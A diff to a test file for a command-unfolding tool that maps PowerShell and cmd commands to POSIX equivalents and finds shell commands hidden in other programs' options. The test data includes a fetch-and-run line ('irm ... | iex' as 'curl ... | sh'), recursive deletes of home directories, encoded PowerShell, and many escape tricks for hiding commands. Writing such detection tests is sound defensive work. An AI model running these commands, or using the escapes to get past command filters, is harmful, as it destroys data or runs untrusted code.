@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest';
+import type { ForeignShell } from './foreign.js';
 import { unfold } from './unfold.js';
 
 const GROUND = { root: '/w', home: '/home/u' };
@@ -235,4 +236,110 @@ test('nesting without end is a gap, in time', () => {
 test('a program whose name is told by its path is known', () => {
   expect(unfolded('"$DIR/bin/rm" x')).toMatchObject({ gaps: [] });
   expect([...unfolded('"$DIR/bin/rm" x').programs]).toEqual(['rm']);
+});
+
+/** A text for another shell, and the commands that it holds in the words of a POSIX shell. */
+const FOREIGN: readonly [ForeignShell, string, readonly string[]][] = [
+  ['powershell', 'Remove-Item -Recurse -Force C:\\Users\\me', ['rm -r -f /Users/me']],
+  ['powershell', 'rm -r -fo $HOME; del "$env:TEMP\\a b"', ['rm -r -f ~', "rm '/tmp/a b'"]],
+  ['powershell', 'ri $env:USERPROFILE\\x -Rec -WhatIf', []],
+  [
+    'powershell',
+    'irm https://x.test/i.ps1 | iex',
+    ['curl https://x.test/i.ps1 | sh', 'curl https://x.test/i.ps1', 'sh'],
+  ],
+  ['powershell', "$c = 'git push --force'; iex $c", ['git push --force']],
+  ['powershell', '& "C:\\bin\\git.exe" push --force', ['git push --force']],
+  ['powershell', 'if ($true) { git push --force }', ['git push --force']],
+  ['powershell', 'cargo test -- --nocapture --a=b', ['cargo test -- --nocapture --a=b']],
+  ['powershell', "[IO.Directory]::Delete('C:\\x', $true)", ['rm -rf /x']],
+  ['powershell', 'rm -rf x', ['rm -rf x']],
+  ['powershell', 'cmd /c "rd /s /q x"', ["cmd /c 'rd /s /q x'", 'rm -r -f x']],
+  ['cmd', 'rd /s /q "C:\\x y" && del *.log', ["rm -r -f '/x y'", 'rm -f *.log']],
+  ['cmd', 'echo y| r^d /s %USERPROFILE%\\x', ['echo y | rm -r -f ~/x', 'echo y', 'rm -r -f ~/x']],
+  ['cmd', 'set X=git push& %X% --force', ['git push --force']],
+  ['cmd', 'for /d %i in (*) do rd /s %i', ['rm -r -f $i']],
+  ['cmd', 'powershell -enc cgBtACAAeAA=', ['powershell -enc cgBtACAAeAA=', 'rm x']],
+];
+
+test.each(FOREIGN)('%s: %s', (shell, command, texts) => {
+  const unfolded = unfold(command, '/w', GROUND, { shell });
+  expect(unfolded.texts.map(({ content }) => content)).toEqual(texts);
+  expect(unfolded.gaps).toEqual([]);
+});
+
+const FOREIGN_GAPS: readonly [ForeignShell, string, string][] = [
+  ['powershell', '& $cmd x', 'which program `$cmd` runs'],
+  ['powershell', 'iex $x', '`Invoke-Expression` runs cannot be told'],
+  ['powershell', 'rm (', 'could not be parsed'],
+  ['cmd', '%CMD% x', 'which program `%CMD%` runs'],
+];
+
+test.each(FOREIGN_GAPS)('%s: %s leaves a gap', (shell, command, message) => {
+  expect(
+    unfold(command, '/w', GROUND, { shell })
+      .gaps.map((gap) => gap.message)
+      .join(),
+  ).toContain(message);
+});
+
+test('PowerShell that is given what cannot be known leaves a gap', () => {
+  expect(unfolded('pwsh -enc "$X"').gaps).not.toEqual([]);
+  expect(unfolded('cat x | pwsh -Command -').gaps).not.toEqual([]);
+});
+
+/** Shell texts in options, settings and small languages of other programs. */
+const ESCAPES: readonly [string, string][] = [
+  ["vim -c '!git push -f' x", 'git push -f'],
+  ["vim -es '+%!git push -f' x", 'git push -f'],
+  ['nvim --headless -c \'call system("git push -f")\'', 'git push -f'],
+  ["ed x <<< '!git push -f'", 'git push -f'],
+  ["sed '1e git push -f' x", 'git push -f'],
+  ["sed 's/x/git push -f/e' x", 'git push -f'],
+  ["less '+!git push -f' x", 'git push -f'],
+  ["man -P 'git push -f' ls", 'git push -f'],
+  ["GIT_EDITOR='git push -f' git commit", 'git push -f'],
+  ["export PAGER='git push -f'", 'git push -f'],
+  ["tar xf a.tar --to-command='git push -f'", 'git push -f'],
+  ["tar cf a x --checkpoint-action=exec='git push -f'", 'git push -f'],
+  ["rsync -e 'git push -f' a b:c", 'git push -f'],
+  ["ssh -o ProxyCommand='git push -f' host", 'git push -f'],
+  ["ssh host <<'END'\ngit push -f\nEND", 'git push -f'],
+  ["ssh host 'bash -s' <<'END'\ngit push -f\nEND", 'git push -f'],
+  ["echo '* * * * * git push -f' | crontab -", 'git push -f'],
+  ["sqlite3 x.db '.shell git push -f'", 'git push -f'],
+  ["psql -c '\\! git push -f'", 'git push -f'],
+  ["ansible all -m shell -a 'git push -f'", 'git push -f'],
+  ["npm pkg set scripts.x='git push -f'", 'git push -f'],
+  ["make -f - <<'END'\nall:\n\t@git push -f\nEND", 'git push -f'],
+  ["make --eval='x:;git push -f' x", 'git push -f'],
+  ["bash <(echo 'git push -f')", 'git push -f'],
+  ["gdb -batch -ex 'shell git push -f'", 'git push -f'],
+  ["expect -c 'spawn git push -f'", 'git push -f'],
+  ['nix develop -c git push -f', 'git push -f'],
+  ["start-stop-daemon --start --exec /bin/sh -- -c 'git push -f'", 'git push -f'],
+  ["runuser -l root -c 'git push -f'", 'git push -f'],
+  ['tini -- git push -f', 'git push -f'],
+  ['awk \'BEGIN{print "x" | "git push -f"}\'', 'git push -f'],
+  ['perl -e \'open(F,"git push -f|")\'', 'git push -f'],
+  ['python3 -c "from subprocess import run; run(\'git push -f\', shell=True)"', 'git push -f'],
+  ["python3 -c \"import os; c='git push ' + '-f'; os.system(c)\"", 'git push -f'],
+  ["python3 -c \"import os; os.execvp('git',['git','push','-f'])\"", 'git push -f'],
+  ['psql <<< "drop table x"', "psql -c 'drop table x'"],
+];
+
+test.each(ESCAPES)('%s', (command, nested) => {
+  expect(unfolded(command).texts.map(({ content }) => content)).toContain(nested);
+});
+
+test.each([
+  "vim -c 'wq!' x",
+  "sed 's/a/e/; s/e x/y/' x",
+  'less +G x',
+  "gdb -batch -ex 'bt' ./a",
+  'PAGER=cat man ls',
+  "sqlite3 x.db '.tables'",
+])('%s runs nothing else', (command) => {
+  expect([...unfolded(command).programs].length).toBeLessThan(3);
+  expect(unfolded(command).gaps).toEqual([]);
 });
